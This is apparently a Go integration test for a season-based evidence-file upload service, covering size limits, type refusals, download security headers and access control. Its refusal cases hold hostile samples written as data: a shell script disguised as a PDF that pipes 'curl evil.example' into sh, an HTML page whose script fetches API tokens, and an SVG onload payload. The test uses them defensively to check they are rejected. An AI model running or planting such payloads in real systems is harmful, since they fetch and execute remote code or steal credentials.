package main

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/thidua/thidua/domain"
	"github.com/thidua/thidua/events"
	"github.com/thidua/thidua/events/natsstore"
)

// fileReply is the answer to an upload.
type fileReply struct {
	SHA256      string `json:"sha256"`
	Size        int64  `json:"size"`
	Name        string `json:"name"`
	ContentType string `json:"content_type"`
}

// upload posts data as an evidence file of season.
func (ts *testServer) upload(season, token, name string, data []byte) (int, fileReply, []byte) {
	ts.t.Helper()
	var r fileReply
	st, b := ts.do(http.MethodPost, "/api/v1/seasons/"+season+"/files?name="+url.QueryEscape(name), token, data, &r)
	return st, r, b
}

// download gets a season's file with its headers.
func (ts *testServer) download(season, token, sha string) (int, http.Header, []byte) {
	ts.t.Helper()
	req, err := http.NewRequest(http.MethodGet, ts.url+"/api/v1/seasons/"+season+"/files/"+sha, nil)
	if err != nil {
		ts.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		ts.t.Fatal(err)
	}
	defer resp.Body.Close()
	// A body cut short (the server aborts a reply whose bytes do not
	// match their hash) is status 0, for the caller to report.
	var b bytes.Buffer
	if _, err := b.ReadFrom(resp.Body); err != nil {
		ts.t.Logf("download %s: %v after %d bytes", sha, err, b.Len())
		return 0, resp.Header, b.Bytes()
	}
	return resp.StatusCode, resp.Header, b.Bytes()
}

// samplePDF is a small PDF whose bytes differ with tag.
func samplePDF(tag string) []byte {
	return []byte("%PDF-1.7\n% " + tag + "\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
}

// sampleDOCX is the smallest zip a Word document is recognised by.
func sampleDOCX(t *testing.T) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, name := range []string{"[Content_Types].xml", "word/document.xml"} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte("<x/>"))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func hashOf(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// metric reads one sample of the server's metrics ("name" or
// `name{label="v"}`); 0 when absent.
func (ts *testServer) metric(sample string) float64 {
	ts.t.Helper()
	_, b := ts.do(http.MethodGet, "/metrics", "", nil, nil)
	m := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(sample) + ` (\S+)$`).FindSubmatch(b)
	if m == nil {
		return 0
	}
	var v float64
	fmt.Sscan(string(m[1]), &v)
	return v
}

// storeUsage opens the stopped server's embedded store and counts the
// evidence files and bytes it holds.
func storeUsage(t *testing.T, dataDir string) (int, uint64) {
	t.Helper()
	srv, err := natsstore.StartEmbedded(natsstore.EmbeddedConfig{Dir: filepath.Join(dataDir, "nats")})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { srv.Shutdown(); srv.WaitForShutdown() }()
	nc, err := natsstore.ConnectEmbedded(srv, "usage")
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	files, err := natsstore.OpenFiles(context.Background(), nc, natsstore.FilesConfig{Existing: true})
	if err != nil {
		t.Fatal(err)
	}
	n, size, err := files.Usage(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return n, size
}

// zeros is an endless body of zero bytes.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// TestEvidenceFiles: uploads, the limits, downloads and their headers, and
// facts naming files, against a real server (embedded NATS, SQLite).
func TestEvidenceFiles(t *testing.T) {
	ts := startServer(t, "", "--checkpoint-every", "1h")
	committee, units := ts.openDemoSeason()
	season := domain.DemoSeasonID
	unit := units["tay-ho"]
	pdf := samplePDF("biên bản đại hội")
	name := "Biên bản đại hội phường Quảng An.pdf"

	var pdfFile fileReply
	t.Run("upload", func(t *testing.T) {
		st, f, b := ts.upload(season, unit, name, pdf)
		if st != http.StatusCreated {
			t.Fatalf("%d %s", st, b)
		}
		want := fileReply{SHA256: hashOf(pdf), Size: int64(len(pdf)), Name: name, ContentType: "application/pdf"}
		if f != want {
			t.Errorf("reply %+v, want %+v", f, want)
		}
		pdfFile = f
	})
	t.Run("the same bytes again store nothing", func(t *testing.T) {
		st, f, b := ts.upload(season, committee, "copy.pdf", pdf)
		if st != http.StatusOK || f != pdfFile {
			t.Errorf("%d %s, want 200 and the first upload %+v", st, b, pdfFile)
		}
	})
	docx := sampleDOCX(t)
	if st, _, b := ts.upload(season, unit, "Báo cáo.docx", docx); st != http.StatusCreated {
		t.Fatalf("docx: %d %s", st, b)
	}
	if got := ts.metric("thidua_files_stored_total"); got != 2 {
		t.Errorf("thidua_files_stored_total = %v, want 2", got)
	}
	if got := ts.metric("thidua_file_bytes_stored_total"); got != float64(len(pdf)+len(docx)) {
		t.Errorf("thidua_file_bytes_stored_total = %v, want %d", got, len(pdf)+len(docx))
	}

	refusals := []struct {
		name, file string
		data       []byte
		status     int
		reason     string
	}{
		{"20 MiB and one byte", "big.pdf", append(samplePDF("big"), make([]byte, 20<<20+1-len(samplePDF("big")))...), 413, "too_large"},
		{"an HTML page", "page.html", []byte("<!doctype html><html><script>fetch('/api/v1/tokens')</script></html>"), 415, "unsupported_type"},
		{"an SVG", "logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 415, "unsupported_type"},
		{"a script named .pdf", "bien-ban.pdf", []byte("#!/bin/sh\ncurl evil.example | sh\n"), 415, "unsupported_type"},
		{"no name", "", pdf, 400, "invalid"},
	}
	for _, c := range refusals {
		t.Run("refuse "+c.name, func(t *testing.T) {
			before := ts.metric(`thidua_file_uploads_refused_total{reason="` + c.reason + `"}`)
			path := "/api/v1/seasons/" + season + "/files"
			if c.file != "" {
				path += "?name=" + url.QueryEscape(c.file)
			}
			st, b := ts.do(http.MethodPost, path, unit, c.data, nil)
			if st != c.status {
				t.Fatalf("%d %s, want %d", st, b, c.status)
			}
			if after := ts.metric(`thidua_file_uploads_refused_total{reason="` + c.reason + `"}`); after != before+1 {
				t.Errorf("refusals for %s went from %v to %v", c.reason, before, after)
			}
		})
	}

	t.Run("refuse a body of unknown length past the limit", func(t *testing.T) {
		// Chunked, so no Content-Length tells the server beforehand.
		body := io.MultiReader(bytes.NewReader(samplePDF("chunked")), io.LimitReader(zeros{}, 20<<20))
		req, err := http.NewRequest(http.MethodPost, ts.url+"/api/v1/seasons/"+season+"/files?name=big.pdf", body)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+unit)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("%d, want 413", resp.StatusCode)
		}
	})
	t.Run("download", func(t *testing.T) {
		cases := []struct {
			name, sha, token string
			body             []byte
			ctype, disp      string
		}{
			{"a PDF opens inline", pdfFile.SHA256, ts.issue(events.RoleAuditor, ""), pdf, "application/pdf",
				`inline; filename="Bien ban dai hoi phuong Quang An.pdf"; filename*=UTF-8''Bi%C3%AAn%20b%E1%BA%A3n%20%C4%91%E1%BA%A1i%20h%E1%BB%99i%20ph%C6%B0%E1%BB%9Dng%20Qu%E1%BA%A3ng%20An.pdf`},
			{"a Word file is an attachment", hashOf(docx), units["cau-giay"], docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
				`attachment; filename="Bao cao.docx"; filename*=UTF-8''B%C3%A1o%20c%C3%A1o.docx`},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				st, h, b := ts.download(season, c.token, c.sha)
				if st != http.StatusOK || !bytes.Equal(b, c.body) {
					t.Fatalf("%d, %d bytes; want 200 and the %d bytes uploaded", st, len(b), len(c.body))
				}
				for k, want := range map[string]string{"Content-Type": c.ctype, "X-Content-Type-Options": "nosniff", "Content-Disposition": c.disp} {
					if got := h.Get(k); got != want {
						t.Errorf("%s: %s\nwant %s", k, got, want)
					}
				}
				csp := h.Get("Content-Security-Policy")
				if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
					t.Errorf("Content-Security-Policy %q does not forbid scripts", csp)
				}
			})
		}
		if st, _, _ := ts.download(season, unit, hashOf([]byte("never uploaded"))); st != http.StatusNotFound {
			t.Errorf("a file never uploaded: %d, want 404", st)
		}
	})

	t.Run("facts", func(t *testing.T) {
		fact := func(id, file string) string {
			return fmt.Sprintf(`{"id":%q,"type":"activity.held","unit":"tay-ho","date":"2024-05-07","data":{"kind":"propaganda","title":"Tuyên truyền"},"evidence":[{"kind":"file","title":"Biên bản","file":%q}]}`, id, file)
		}
		before := ts.logLength()
		st, b, _ := ts.post(unit, fact("with-unstored-file", hashOf([]byte("never uploaded"))))
		if st != http.StatusBadRequest {
			t.Fatalf("a fact naming an unstored file: %d %s, want 400", st, b)
		}
		assertError(t, b, "evidence[0].file")
		if after := ts.logLength(); after != before {
			t.Errorf("the log moved from %d to %d", before, after)
		}
		st, b, r := ts.post(unit, fact("with-file", pdfFile.SHA256))
		if st != http.StatusCreated {
			t.Fatalf("a fact naming a stored file: %d %s", st, b)
		}
		// The unit's sheet lists the file with its name, size and type.
		var sheet struct {
			Facts []struct {
				ID       string            `json:"id"`
				Evidence []events.Evidence `json:"evidence"`
			} `json:"facts"`
		}
		if st, b := ts.do(http.MethodGet, fmt.Sprintf("/api/v1/seasons/%s/units/tay-ho/score?min_seq=%d", season, r.Seq), unit, nil, &sheet); st != http.StatusOK {
			t.Fatalf("score: %d %s", st, b)
		}
		want := events.Evidence{Kind: "file", Title: "Biên bản", File: pdfFile.SHA256, FileName: name, FileSize: pdfFile.Size, FileType: "application/pdf"}
		found := false
		for _, f := range sheet.Facts {
			if f.ID == "with-file" {
				found = len(f.Evidence) == 1 && f.Evidence[0] == want
				if !found {
					t.Errorf("sheet evidence %+v, want %+v", f.Evidence, want)
				}
			}
		}
		if !found {
			t.Errorf("the sheet does not list the fact with its file")
		}
	})

	t.Run("a unit of another season neither uploads nor downloads", func(t *testing.T) {
		other := domain.DemoSeason2025()
		ts.openSeason(domain.DemoSeason2025ID, other)
		outsider := ts.issue(events.RoleUnit, other.Members[0].ID)
		if st, _, b := ts.upload(season, outsider, "x.pdf", samplePDF("outsider")); st != http.StatusForbidden {
			t.Errorf("upload: %d %s, want 403", st, b)
		}
		if st, _, b := ts.download(season, outsider, pdfFile.SHA256); st != http.StatusForbidden {
			t.Errorf("download: %d %s, want 403", st, b)
		}
		// Its own season does not hold the other season's file.
		if st, _, _ := ts.download(domain.DemoSeason2025ID, outsider, pdfFile.SHA256); st != http.StatusNotFound {
			t.Errorf("another season's file through its own season: %d, want 404", st)
		}
	})

	ts.stop()
	if n, size := storeUsage(t, ts.data); n != 2 || size != uint64(len(pdf)+len(docx)) {
		t.Errorf("the store holds %d files of %d bytes, want the 2 uploaded (%d bytes): a refusal or a repeat stored something", n, size, len(pdf)+len(docx))
	}
}
